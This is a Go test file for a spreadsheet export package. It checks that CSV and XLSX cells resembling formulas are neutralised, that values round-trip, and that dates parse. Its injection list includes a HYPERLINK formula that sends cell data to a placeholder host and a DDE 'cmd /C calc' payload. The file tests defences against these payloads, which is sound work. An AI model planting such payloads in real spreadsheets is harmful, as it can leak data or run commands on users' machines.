package sheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"bihuan/models/sheet"
)

var shanghai = time.FixedZone("CST", 8*3600)

func written(t testing.TB, extension string, rows ...[]any) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := sheet.New(&b, extension, shanghai)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// injections are cells that a spreadsheet would run.
var injections = []string{"=1+1", "=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "=", "+", "-", "@",
	"'=1", "''=1", "-", "--5", "+-5", "-5a", "=-5"}

func TestFormulasAreNeutralised(t *testing.T) {
	for _, extension := range []string{"csv", "xlsx"} {
		rows := [][]any{{"值", "后"}}
		for _, s := range injections {
			rows = append(rows, []any{s, "x"})
		}
		data := written(t, extension, rows...)
		for i, cell := range rawCells(t, extension, data)[1:] {
			if !strings.HasPrefix(cell, "'") {
				t.Errorf("%s: %q is written as %q", extension, injections[i], cell)
			}
		}
		for i, r := range mustTable(t, data)[1:] {
			if flat(r[0]) != flat(injections[i]) {
				t.Errorf("%s: %q is read back as %q", extension, injections[i], r[0])
			}
		}
	}
}

// flat makes every line end a line feed, as the writers do.
func flat(s string) string { return strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(s) }

// rawCells gives the first column as a foreign program reads it.
func rawCells(t testing.TB, extension string, data []byte) []string {
	t.Helper()
	var out []string
	if extension == "csv" {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			out = append(out, row[0])
		}
		return out
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		out = append(out, row[0])
		name, _ := excelize.CoordinatesToCellName(1, i+1)
		if formula, _ := f.GetCellFormula("Sheet1", name); formula != "" {
			t.Errorf("cell %s is the formula %q", name, formula)
		}
	}
	return out
}

func TestWhatIsWrittenIsReadBack(t *testing.T) {
	at := time.Date(2026, 3, 6, 6, 5, 9, 0, time.UTC)
	for _, extension := range []string{"csv", "xlsx"} {
		data := written(t, extension, []any{"号", "数", "额", "时", "是", "无", "零"},
			[]any{"TS-2026-000001", int64(-5), 12.5, at, true, nil, time.Time{}},
			[]any{"13800138000", 7, 0.1, at.Add(18 * time.Hour), false, "-12.5", "+8613800138000"},
			[]any{"多行\n\"引号\",逗号;", 0, 1e14, at, true, "𠮷😀", "' 引"})
		rows := mustTable(t, data)
		upper := func(b string) string {
			if extension == "xlsx" {
				return strings.ToUpper(b)
			}
			return b
		}
		want := [][]string{{"号", "数", "额", "时", "是", "无", "零"},
			{"TS-2026-000001", "-5", "12.5", "2026-03-06 14:05:09", upper("true"), "", ""},
			{"13800138000", "7", "0.1", "2026-03-07 08:05:09", upper("false"), "-12.5", "+8613800138000"},
			{"多行\n\"引号\",逗号;", "0", "100000000000000", "2026-03-06 14:05:09", upper("true"), "𠮷😀", "' 引"}}
		if !slices.EqualFunc(rows, want, slices.Equal) {
			t.Errorf("%s:\n%q\n%q", extension, rows, want)
		}
	}
}

func TestAWriterRefusesWhatItCannotKeep(t *testing.T) {
	for _, extension := range []string{"csv", "xlsx"} {
		w, err := sheet.New(&bytes.Buffer{}, extension, nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Row([]string{"x"}); err == nil {
			t.Errorf("%s: a slice in a cell", extension)
		}
	}
	if _, err := sheet.New(&bytes.Buffer{}, "exe", nil); err == nil {
		t.Error("an unknown kind")
	}
	full, err := sheet.New(broken{}, "csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	err = nil
	for range 10_000 {
		err = errors.Join(err, full.Row("a text that fills the buffer"))
	}
	if err = errors.Join(err, full.Close()); err == nil {
		t.Error("a full disk is not told")
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

func TestControlCharactersAndLongTextsDoNotBreakAWorkbook(t *testing.T) {
	rows := mustTable(t, written(t, "xlsx", []any{"a"}, []any{"x\x00\x01y\xff"}, []any{strings.Repeat("长", 40_000)}))
	if rows[1][0] != "xy\uFFFD" || len([]rune(rows[2][0])) != 32_767 {
		t.Fatalf("%q, %d", rows[1][0], len([]rune(rows[2][0])))
	}
}

func FuzzWrittenCellsComeBack(f *testing.F) {
	for _, s := range injections {
		f.Add(s)
	}
	f.Add("\r0")
	f.Fuzz(func(t *testing.T, s string) {
		if strings.TrimSpace(s) == "" || len(s) > 10_000 {
			return
		}
		want := strings.ToValidUTF8(s, "")
		if want != s || strings.ContainsRune(s, 0) || strings.ContainsRune(s, '\uFFFD') {
			return
		}
		rows := mustTable(t, written(t, "csv", []any{"a", "b"}, []any{s, "x"}))
		if flat(rows[1][0]) != flat(s) {
			t.Fatalf("%q came back as %q", s, rows[1][0])
		}
	})
}

func TestDatesInCells(t *testing.T) {
	for cell, want := range map[string]string{
		"2026-03-06": "2026-03-06 00:00", "2026/3/6 9:05": "2026-03-06 09:05", "2026年3月6日": "2026-03-06 00:00", "2026年3月6日 14时5分": "2026-03-06 14:05",
		"20260306": "2026-03-06 00:00", "2026.3.6": "2026-03-06 00:00", "2026-03-06 14:05:09": "2026-03-06 14:05", "2026-03-06T06:05:00Z": "2026-03-06 14:05",
		"　2026-03-06　14：05 ": "2026-03-06 14:05",
	} {
		got, ok := sheet.Time(cell, shanghai)
		if !ok || got.In(shanghai).Format("2006-01-02 15:04") != want {
			t.Errorf("%q: %v %v", cell, got, ok)
		}
	}
	for _, cell := range []string{"", "明天", "2026-13-01", "2026-02-30", "46087", "3/6/2026", "0000-01-01", "9999-01-01"} {
		if got, ok := sheet.Time(cell, shanghai); ok {
			t.Errorf("%q is no date, got %v", cell, got)
		}
	}
}
